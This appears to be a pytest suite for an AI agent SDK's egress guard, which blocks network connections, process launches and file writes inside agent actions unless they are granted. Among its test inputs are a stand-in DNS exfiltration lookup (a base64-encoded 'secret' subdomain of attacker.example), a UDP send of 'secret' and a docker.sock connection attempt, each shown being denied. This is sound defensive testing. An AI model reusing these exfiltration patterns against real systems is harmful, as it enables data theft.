"""What code inside an action reaches, starts or writes is asked first; a no comes before it."""

import asyncio
import concurrent.futures
import contextlib
import importlib
import logging
import multiprocessing
import os
import socket
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from support.listener import Listener
from support.person import Person
from support.server import Server

import aim_sdk
from aim_sdk import Agent, EgressDenied, guard_names, secure
from aim_sdk.exemption import own_connections

TOOL = "get_weather"


@pytest.fixture(autouse=True)
def no_names() -> None:
    """By which name this machine is known follows from what tests before have resolved."""
    guard_names._names.clear()


@pytest.fixture
def tool(agent: Agent, person: Person) -> Agent:
    """An agent that may do one thing."""
    person.grant(agent.id, TOOL)
    return agent


@pytest.fixture
def listener() -> Iterator[Listener]:
    """Sees every connection."""
    with Listener() as listening:
        yield listening


def asked(person: Person, agent: Agent, capability: str) -> list[tuple[str, str]]:
    """What was asked for beside the action itself, oldest first: resource and decision."""
    seen = reversed(person.verifications(agent.id))
    return [(it["resource"], it["decision"]) for it in seen if it["action"] == capability]


def inside(agent: Agent, reach: Callable[[], Any], resource: str | None = None) -> Any:
    """What ``reach`` gives inside an action."""
    with agent.action(TOOL, resource=resource):
        return reach()


def test_a_new_host_is_not_reached(tool: Agent, person: Person, listener: Listener) -> None:
    def reach() -> None:
        socket.create_connection(("127.0.0.1", listener.port)).close()

    with pytest.raises(EgressDenied) as denied:
        inside(tool, reach)
    assert denied.value.target == f"tcp://127.0.0.1:{listener.port}"
    assert denied.value.verification is not None
    assert denied.value.verification.codes == {"CAPABILITY_MISSING"}
    assert asked(person, tool, "network:connect") == [(denied.value.target, "DENIED")]
    assert listener.count() == 0
    reach()
    assert listener.count() == 1


def test_a_granted_host_is_reached_and_asked_about_once(
    tool: Agent, person: Person, listener: Listener
) -> None:
    target = f"tcp://127.0.0.1:{listener.port}"
    person.grant(tool.id, "network:*", resource=target)
    for _ in range(3):
        inside(tool, lambda: socket.create_connection(("127.0.0.1", listener.port)).close())
    assert listener.count() == 3
    assert asked(person, tool, "network:connect") == [(target, "ALLOWED")]


def test_the_actions_own_address_was_verified_with_it(
    tool: Agent, person: Person, listener: Listener
) -> None:
    def reach() -> None:
        socket.create_connection(("localhost", listener.port)).close()

    inside(tool, reach, f"tcp://localhost:{listener.port}/today")
    assert listener.count() == 1
    assert asked(person, tool, "network:connect") == []
    with pytest.raises(EgressDenied):
        inside(tool, reach, f"tcp://localhost:{listener.port + 1}/today")
    assert listener.count() == 1


def test_names_are_asked_about_before_they_are_resolved(
    tool: Agent, person: Person, listener: Listener
) -> None:
    with pytest.raises(EgressDenied, match="exfil-c2vjcmv0"):
        inside(tool, lambda: socket.getaddrinfo("exfil-c2VjcmV0.attacker.example", 443))
    with pytest.raises(EgressDenied):
        inside(tool, lambda: socket.gethostbyname("attacker.example"))
    with pytest.raises(EgressDenied):
        inside(tool, lambda: socket.gethostbyaddr("attacker.example"))
    assert [it[0] for it in asked(person, tool, "network:connect")] == [
        "https://exfil-c2vjcmv0.attacker.example",
        "tcp://attacker.example",
    ]


def test_a_connection_counts_for_the_name_it_was_resolved_from(
    tool: Agent, person: Person, listener: Listener
) -> None:
    person.grant(tool.id, "network:*", resource=f"tcp://localhost:{listener.port}")

    def reach() -> None:
        for *_, address in socket.getaddrinfo("localhost", listener.port, socket.AF_INET):
            with socket.socket() as plain:
                plain.connect(address)

    inside(tool, reach)
    assert listener.count() >= 1
    before = listener.count()
    with Listener() as other, pytest.raises(EgressDenied):
        inside(tool, lambda: socket.create_connection(("127.0.0.1", other.port)))
    assert listener.count() == before


async def test_tasks_belong_to_the_action(tool: Agent, listener: Listener) -> None:
    async def reach() -> None:
        await asyncio.open_connection("127.0.0.1", listener.port)

    async def spawn() -> None:
        await asyncio.create_task(reach())

    def blocking() -> None:
        socket.create_connection(("127.0.0.1", listener.port))

    for attempt in (
        reach,
        spawn,
        lambda: asyncio.to_thread(blocking),
        lambda: asyncio.get_running_loop().run_in_executor(None, blocking),
    ):
        with pytest.raises(EgressDenied):
            async with tool.action(TOOL):
                await attempt()
    assert listener.count() == 0
    _, writer = await asyncio.open_connection("127.0.0.1", listener.port)
    writer.close()
    await writer.wait_closed()
    await tool.aclose()


def test_threads_belong_to_the_action(tool: Agent, listener: Listener) -> None:
    def reach() -> None:
        with contextlib.suppress(EgressDenied):
            socket.create_connection(("127.0.0.1", listener.port))

    def in_thread() -> None:
        thread = threading.Thread(target=reach)
        thread.start()
        thread.join()

    def in_pool() -> None:
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            pool.submit(reach).result()

    for attempt in (in_thread, in_pool):
        # The thread has caught the error; the action raises it all the same.
        with pytest.raises(EgressDenied):
            inside(tool, attempt)
    assert listener.count() == 0


def test_a_worker_that_an_action_started_serves_others_freely(
    tool: Agent, listener: Listener
) -> None:
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        inside(tool, lambda: pool.submit(int).result())
        pool.submit(lambda: socket.create_connection(("127.0.0.1", listener.port)).close()).result()
        with pytest.raises(EgressDenied):
            inside(tool, lambda: pool.submit(socket.create_connection, ("127.0.0.1", 9)).result())
    assert listener.count() == 1


def test_forks_belong_to_the_action(tool: Agent, listener: Listener) -> None:
    def child() -> None:
        try:
            socket.create_connection(("127.0.0.1", listener.port))
        except EgressDenied:
            os._exit(7)
        os._exit(0)

    def reach() -> int | None:
        process = multiprocessing.get_context("fork").Process(target=child)
        process.start()
        process.join(60)
        return process.exitcode

    assert inside(tool, reach) == 7
    assert listener.count() == 0


def test_datagrams_and_local_sockets(tool: Agent, tmp_path: Path) -> None:
    def datagram() -> None:
        with socket.socket(type=socket.SOCK_DGRAM) as plain:
            plain.sendto(b"secret", ("127.0.0.1", 9))

    def local() -> None:
        with socket.socket(socket.AF_UNIX) as plain:
            plain.connect(str(tmp_path / "docker.sock"))

    for attempt, target in ((datagram, "tcp://127.0.0.1:9"), (local, f"unix:{tmp_path}")):
        with pytest.raises(EgressDenied) as denied:
            inside(tool, attempt)
        assert denied.value.target.startswith(target)


def programs(mark: Path) -> dict[str, Callable[[], Any]]:
    """Ways to start a process that leaves a mark."""
    touch = ["/usr/bin/touch", str(mark)]
    return {
        "run": lambda: subprocess.run(touch, check=True),
        "shell": lambda: subprocess.run(f"touch {mark}", shell=True, check=True),
        "system": lambda: os.system(f"touch {mark}"),
        "popen": lambda: os.popen(f"touch {mark}").read(),
        "posix_spawn": lambda: os.waitpid(os.posix_spawn(touch[0], touch, {}), 0),
        "execv": lambda: os.execv(touch[0], touch),
        "multiprocessing": lambda: multiprocessing.get_context("spawn").Process(target=int).start(),
    }


@pytest.mark.parametrize("way", [*programs(Path("x"))])
def test_processes_are_not_started(way: str, tool: Agent, person: Person, tmp_path: Path) -> None:
    with pytest.raises(EgressDenied):
        inside(tool, programs(tmp_path / "mark")[way])
    assert not (tmp_path / "mark").exists()
    assert [it[1] for it in asked(person, tool, "system:execute")] == ["DENIED"]


async def test_processes_of_asyncio_are_not_started(tool: Agent, tmp_path: Path) -> None:
    with pytest.raises(EgressDenied):
        async with tool.action(TOOL):
            await asyncio.create_subprocess_exec("touch", str(tmp_path / "mark"))
    assert not (tmp_path / "mark").exists()
    await tool.aclose()


def writes(folder: Path) -> dict[str, Callable[[], Any]]:
    """Ways to change files in a folder that has ``old``, and ``link`` to it."""
    new, old = folder / "new", folder / "old"
    return {
        "write": lambda: new.write_text("x"),
        "append": lambda: old.open("a").close(),
        "update": lambda: old.open("r+").close(),
        "exclusive": lambda: new.open("x").close(),
        "descriptor": lambda: os.close(os.open(new, os.O_CREAT | os.O_WRONLY)),
        "rename": lambda: old.rename(new),
        "remove": lambda: old.unlink(),
        "folder": lambda: new.mkdir(),
        "link": lambda: new.symlink_to(old),
        "truncate": lambda: os.truncate(old, 0),
        "mode": lambda: old.chmod(0o777),
        "sqlite": lambda: sqlite3.connect(new),
    }


@pytest.mark.parametrize("way", [*writes(Path("x"))])
def test_files_are_not_changed(way: str, tool: Agent, tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "old").write_text("old")
    mode = (folder / "old").stat().st_mode
    with pytest.raises(EgressDenied):
        inside(tool, writes(folder)[way])
    assert [it.name for it in folder.iterdir()] == ["old"]
    assert ((folder / "old").read_text(), (folder / "old").stat().st_mode) == ("old", mode)


def test_reading_and_allowed_paths_ask_nobody(
    agent: Agent, person: Person, server: Server, tmp_path: Path
) -> None:
    person.grant(agent.id, TOOL)
    folder, outside = tmp_path / "data", tmp_path / "outside"
    folder.mkdir()
    outside.mkdir()
    (folder / "out").symlink_to(outside)
    own = secure(agent.name, url=server.url, write_paths=[folder])

    def work() -> str:
        (folder / "a").write_text("a")
        (folder / "a").rename(folder / "b")
        with open(os.devnull, "w") as nowhere:
            nowhere.write("x")
        return (folder / "b").read_text()

    assert inside(own, work) == "a"
    assert {it["action"] for it in person.verifications(agent.id)} == {TOOL}
    with pytest.raises(EgressDenied) as denied:
        inside(own, lambda: (folder / "out" / "x").write_text("x"))
    assert denied.value.target == str(outside / "x")
    own.close()


def test_files_of_a_grant_are_written(tool: Agent, person: Person, tmp_path: Path) -> None:
    person.grant(tool.id, "files:write", resource=f"{tmp_path}/reports/*")
    (tmp_path / "reports").mkdir()
    inside(tool, lambda: (tmp_path / "reports" / "today").write_text("x"))
    assert (tmp_path / "reports" / "today").read_text() == "x"


def test_modules_are_imported_inside_actions(
    tool: Agent, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "weather_of_brno.py").write_text("celsius = 21")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.setattr(sys, "dont_write_bytecode", False)
    found = inside(tool, lambda: importlib.import_module("weather_of_brno"))
    assert found.celsius == 21
    assert not (tmp_path / "__pycache__").exists()


def test_a_swallowed_no_is_raised_all_the_same(tool: Agent, person: Person) -> None:
    @tool.track_action(name=TOOL)
    def get_weather() -> str:
        try:
            socket.create_connection(("127.0.0.1", 9))
        except Exception:
            return "sunny"
        return "rainy"

    with pytest.raises(EgressDenied):
        get_weather()
    assert tool.flush()
    assert person.verifications(tool.id)[-1]["outcome"] == "ERROR"

    outer = tool.action(TOOL)
    with pytest.raises(EgressDenied), outer, contextlib.suppress(EgressDenied), tool.action(TOOL):
        socket.create_connection(("127.0.0.1", 9))


def test_the_sdks_own_work_reaches_its_server_alone(tool: Agent, listener: Listener) -> None:
    def reach() -> None:
        with own_connections(tool.settings.url):
            socket.create_connection(("127.0.0.1", listener.port))

    with pytest.raises(EgressDenied, match="its server alone"):
        inside(tool, reach)
    assert listener.count() == 0
    # Its own questions get through, on connections that are opened inside the action.
    tool.close()
    assert inside(tool, lambda: tool.verify_action(TOOL)).is_allowed


def test_without_an_answer_nothing_is_reached(
    tool: Agent, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    def unreachable(*_: Any) -> None:
        raise aim_sdk.ServerUnavailable("no answer")

    def reach() -> None:
        with monkeypatch.context() as patch:
            patch.setattr(tool, "_run", unreachable)
            socket.create_connection(("127.0.0.1", listener.port))

    with pytest.raises(EgressDenied, match="could not be verified"):
        inside(tool, reach)
    assert listener.count() == 0


def test_a_log_that_is_opened_to_tell_of_it_ends(tool: Agent, tmp_path: Path) -> None:
    handler = logging.FileHandler(tmp_path / "log", delay=True)
    told = logging.getLogger("aim_sdk")
    told.addHandler(handler)
    try:
        with pytest.raises(EgressDenied, match="attacker"):
            inside(tool, lambda: socket.gethostbyname("attacker.example"))
    finally:
        told.removeHandler(handler)
        handler.close()
    assert not (tmp_path / "log").exists()


def test_the_guard_can_be_left_out(
    agent: Agent, person: Person, server: Server, listener: Listener
) -> None:
    person.grant(agent.id, TOOL)
    own = secure(agent.name, url=server.url, guard=False)
    inside(own, lambda: socket.create_connection(("127.0.0.1", listener.port)).close())
    assert listener.count() == 1
    own.close()


async def test_the_sdks_own_work_in_asyncio_reaches_its_server(
    name: str, server: Server, api_key: str, person: Person
) -> None:
    url = server.url.replace("127.0.0.1", "localhost")
    by_name = secure(name, url=url, api_key=api_key)
    person.grant(by_name.id, TOOL)
    by_name.close()
    # First connections, by a name that has to be resolved, inside an action.
    with by_name.action(TOOL):
        by_name.close()
        assert (await by_name.averify_action(TOOL)).is_allowed
        async with by_name.action(TOOL):
            assert by_name.verify_action(TOOL).is_allowed
    await by_name.aclose()
    by_name.close()
